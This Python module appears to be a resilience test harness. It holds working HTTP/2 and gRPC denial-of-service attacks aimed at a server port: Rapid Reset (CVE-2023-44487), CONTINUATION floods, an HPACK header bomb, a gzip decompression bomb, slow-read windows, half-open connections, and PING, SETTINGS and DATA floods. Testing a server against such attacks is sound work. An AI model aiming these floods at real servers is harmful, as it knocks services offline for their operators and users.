"""Attacks below the calls: each takes a port and for how long, and returns a word about it."""
import gzip
import struct
import time

import http2
from http2 import (CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, LARGEST_FRAME, PING,
                   RST_STREAM, SETTINGS, Connection, frame, request_headers)

STATUS = "/clearway.v1.ServerService/GetStatus"
PUSH = "/clearway.v1.IngestService/PushFrames"
POINTS = "/clearway.v1.OccupancyService/GetPointOccupancy"


def _repeat(connection, seconds, make):
    """Sends make(i) until the time is over or the server closes; returns how often."""
    end, sent = time.monotonic() + seconds, 0
    while time.monotonic() < end and connection.send(make(sent)):
        sent += 1
    return f"{sent} times, " + ("closed by the server" if connection.closed else "not closed")


def rapid_reset(port, seconds):
    """Calls that are cancelled as soon as they are sent (CVE-2023-44487)."""
    headers = request_headers(STATUS)

    def hundred(i):
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, bytes(5)) +
            frame(RST_STREAM, 0, stream, CANCEL)
            for stream in range(200 * i + 1, 200 * i + 201, 2))

    with Connection(port) as connection:
        return _repeat(connection, seconds, hundred)


def rapid_reset_of_streams(port, seconds):
    """The same with streams that a thread serves."""
    headers = request_headers(PUSH)

    def fifty(i):
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, CANCEL)
            for stream in range(100 * i + 1, 100 * i + 101, 2))

    with Connection(port) as connection:
        return _repeat(connection, seconds, fifty)


def continuation(port, seconds):
    """Headers that never end (CVE-2024-27316 and the like)."""
    piece = b"".join(http2.header("x-aaaaaa", "v" * 1000) for _ in range(16))[:LARGEST_FRAME]
    with Connection(port) as connection:
        connection.send(frame(HEADERS, 0, 1, request_headers(STATUS)))
        return _repeat(connection, seconds, lambda _: frame(CONTINUATION, 0, 1, piece))


def empty_continuations(port, seconds):
    with Connection(port) as connection:
        connection.send(frame(HEADERS, 0, 1, request_headers(STATUS)))
        return _repeat(connection, seconds, lambda _: frame(CONTINUATION, 0, 1) * 2000)


def large_headers(port, seconds):
    """A megabyte of headers for each of many calls."""
    block = request_headers(STATUS) + b"".join(
        http2.header("x-aaaaaa", "v" * 1000) for _ in range(1000))
    pieces = [block[i:i + LARGEST_FRAME] for i in range(0, len(block), LARGEST_FRAME)]

    def call(i):
        return b"".join(
            frame(CONTINUATION if k else HEADERS, END_HEADERS if k == len(pieces) - 1 else 0,
                  2 * i + 1, piece)
            for k, piece in enumerate(pieces))

    with Connection(port) as connection:
        return _repeat(connection, seconds, call)


def indexed_headers(port, seconds):
    """Four kilobytes that are named sixteen thousand times (an HPACK bomb)."""
    def call(i):
        block = request_headers(STATUS)
        if i == 0:  # into the dynamic table
            block += b"\x40" + http2.integer(8, 7) + b"x-aaaaaa" + http2.integer(3900, 7) + b"v" * 3900
        block += b"\xbe" * (LARGEST_FRAME - 84 - len(block))
        return frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block)

    with Connection(port) as connection:
        return _repeat(connection, seconds, call)


def small_windows(port, seconds, path, body, calls=40):
    """Large replies that are read by the byte."""
    with Connection(port, window=1) as connection:
        for i in range(calls):
            connection.call(2 * i + 1, path, body)
        time.sleep(seconds)
        return "closed by the server" if connection.closed else "not closed"


def gzip_bomb(port, seconds, size=1_000_000_000):
    """A megabyte that becomes a thousand."""
    field = b"\x82\x7d" + _varint(size) + bytes(size)  # of a number that no message has
    body = gzip.compress(field, 6)
    with Connection(port, window=2**31 - 1) as connection:
        connection.call(1, POINTS, body, ("grpc-encoding", "gzip"), compressed=True)
        time.sleep(seconds)
        return f"{len(body) // 1000} KB"


def _varint(value):
    octets = b""
    while value > 127:
        octets += bytes([value & 127 | 128])
        value >>= 7
    return octets + bytes([value])


def half_prefaces(port, seconds, count=300):
    """Connections that begin to speak and do not go on."""
    connections = [http2.connect(port) for _ in range(count)]
    for connection in connections:
        try:
            connection.send(http2.PREFACE[:8])
        except OSError:
            pass  # closed already
        connection.setblocking(False)
    time.sleep(seconds)
    closed = sum(_is_closed(connection) for connection in connections)
    for connection in connections:
        connection.close()
    return f"{closed} of {count} closed by the server"


def _is_closed(connection):
    try:
        return connection.recv(1 << 16) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def _flood(port, seconds, octets, reads):
    with Connection(port, reads=reads) as connection:
        connection.socket.settimeout(0.5)
        return _repeat(connection, seconds, lambda _: octets)


def pings(port, seconds):
    return _flood(port, seconds, frame(PING, 0, 0, b"12345678") * 500, reads=True)


def unread_pings(port, seconds):
    return _flood(port, seconds, frame(PING, 0, 0, b"12345678") * 500, reads=False)


def settings(port, seconds):
    change = frame(SETTINGS, 0, 0, struct.pack(">HI", http2.INITIAL_WINDOW_SIZE, 65535))
    return _flood(port, seconds, change * 500, reads=True)


def unread_settings(port, seconds):
    change = frame(SETTINGS, 0, 0, struct.pack(">HI", http2.INITIAL_WINDOW_SIZE, 65535))
    return _flood(port, seconds, change * 500, reads=False)


def empty_data(port, seconds):
    with Connection(port) as connection:
        connection.send(frame(HEADERS, END_HEADERS, 1, request_headers(PUSH)))
        return _repeat(connection, seconds, lambda _: frame(DATA, 0, 1) * 2000)


ALL = [rapid_reset, rapid_reset_of_streams, continuation, empty_continuations, large_headers,
       indexed_headers, gzip_bomb, half_prefaces, pings, unread_pings, settings, unread_settings,
       empty_data]
